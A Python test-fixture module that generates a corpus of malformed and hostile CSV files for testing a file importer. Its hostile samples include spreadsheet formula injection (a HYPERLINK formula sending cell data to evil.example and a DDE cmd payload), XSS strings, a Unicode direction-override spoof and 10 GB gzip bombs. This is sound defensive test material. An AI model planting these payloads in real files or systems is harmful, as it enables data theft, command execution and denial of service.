"""The corpus of nasty files (tests/data/nasty/): what real exports and attackers send.

The small files are kept in the repository (`python tests/data/nasty.py` writes them again);
the big ones (a 10 MB line, zip bombs) are made here at test time, never committed. What a
user must be shown for each file is in tests/data/nasty/expected.json.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import sys
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent / "nasty"


def _truncated_gzip() -> bytes:
    packed = gzip.compress(b"user_id\n" + b"".join(b"%06d\n" % i for i in range(2000)), mtime=0)
    return packed[: len(packed) // 2]


_NAMES = [
    ["0002", "Jürgen", "Straße des 17. Juni", "l’été à Köln"],
    ["0003", "Noël-Chloé", "Genève", 'dit "bonjour"'],
]


def _excel(delimiter: str, line_end: str, codec: str, rows: list[list[str]]) -> bytes:
    """A table as Excel saves it: a header, cells quoted only when they must be."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=line_end)
    writer.writerows([["user_id", "prénom", "ville", "note"], *rows])
    return out.getvalue().encode(codec)


SMALL: dict[str, bytes] = {
    "bom.csv": codecs.BOM_UTF8 + b"user_id,city\r\n0130,Paris\r\n0131,Lyon\r\n",
    "mixed-line-endings.csv": b"user_id,city\r\n1,Paris\n2,Lyon\r3,Nice\r\n\n4,Metz\n",
    "quotes-inside-quotes.csv": (
        b"user_id,note\n"
        b'1,"She said ""hi"", then left"\n'
        b'2,plain "inner" quotes\n'
        b'3,"""quoted"" at both ends"""\n'
    ),
    "formulas.csv": (
        b"user_id,note,signup\n"
        b'"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+1,2024-05-01\n'
        b"@SUM(A1:A9),-2,=1+2\n"
        b"+33612345678,=cmd|' /C calc'!A0,2024-05-02\n"
        b"-1,@x,2024-05-03\n"
        b"4,ok,2024-05-04\n"
    ),
    "html-script.csv": (
        b"user_id,name\n"
        b"<script>alert(1)</script>,<img src=x onerror=alert(2)>\n"
        b'2,"<a href=""javascript:alert(3)"">click</a>"\n'
    ),
    "rtl-emoji.csv": (
        "user_id,name\n"
        "משתמש-1,שלום\n"
        "\u202eevil\u202c,override\n"
        "👩\u200d👩\u200d👧\u200d👦,family\n"
        "🦄,unicorn\n"
        "مستخدم٣,مرحبا\n"
    ).encode(),
    "nul-bytes.csv": b"user_id\n1\x002\n3\n",
    "truncated.csv.gz": _truncated_gzip(),
    "latin1.csv": "user_id,ville\n1,Montréal\n2,Québec\n".encode("latin-1"),
    # As Excel saves them: "CSV" on Windows in a European locale (Windows-1252, ";"), "Unicode
    # text" (UTF-16 LE with its byte order mark, tabs), "CSV UTF-8", and "CSV" on an old Mac.
    "excel-windows-1252.csv": _excel(
        ";", "\r\n", "cp1252", [["0001", "Zoé", "Zürich", "Prix 12,50 €"], *_NAMES]
    ),
    "excel-unicode-text.txt": codecs.BOM_UTF16_LE
    + _excel("\t", "\r\n", "utf-16-le", [["0001", "Zoé", "東京", "Prix 12,50 €"], *_NAMES]),
    "excel-csv-utf8.csv": codecs.BOM_UTF8
    + _excel(",", "\r\n", "utf-8", [["0001", "Zoé", "Zürich", "Prix 12,50 €"], *_NAMES]),
    "excel-mac-roman.csv": _excel(
        ",", "\r", "mac_roman", [["0001", "Zoé", "Zürich", "Prix 12,50 €"], *_NAMES]
    ),
    "utf16.csv": "user_id,city\n1,Paris\n".encode("utf-16"),
    "utf16-no-bom.csv": "user_id,city\n1,Paris\n".encode("utf-16-le"),
}


def ten_mb_line() -> bytes:
    """One 10 MB line: an ID far over 512 characters."""
    return b"x" * (10 * 1024 * 1024) + b"\n"


def _bomb(unit: bytes, gigabytes: int) -> bytes:
    """A gzip file that expands to ``gigabytes`` GB of ``unit``, from a few MB: one member of
    1 MB, compressed once, repeated (a gzip file may hold many members, read one after another)."""
    member = gzip.compress(unit * (1024 * 1024 // len(unit)), compresslevel=9, mtime=0)
    return member * (gigabytes * 1024)


def zip_bomb() -> bytes:
    """10 GB of valid-looking IDs ("1\\n"), from about 10 MB."""
    return _bomb(b"1\n", 10)


def zip_bomb_of_zeros() -> bytes:
    """The classic: 10 GB of NUL bytes, from about 10 MB."""
    return _bomb(b"\x00", 10)


BIG: dict[str, Callable[[], bytes]] = {
    "ten-mb-line.csv": ten_mb_line,
    "zip-bomb.csv.gz": zip_bomb,
    "zip-bomb-of-zeros.csv.gz": zip_bomb_of_zeros,
}


def content(name: str) -> bytes:
    """A corpus file's bytes: read from the repository, or made now for the big ones."""
    if name in BIG:
        return BIG[name]()
    return (HERE / name).read_bytes()


def write_small() -> None:
    HERE.mkdir(exist_ok=True)
    for name, data in SMALL.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    write_small()
    print(f"wrote {len(SMALL)} files to {HERE}", file=sys.stderr)
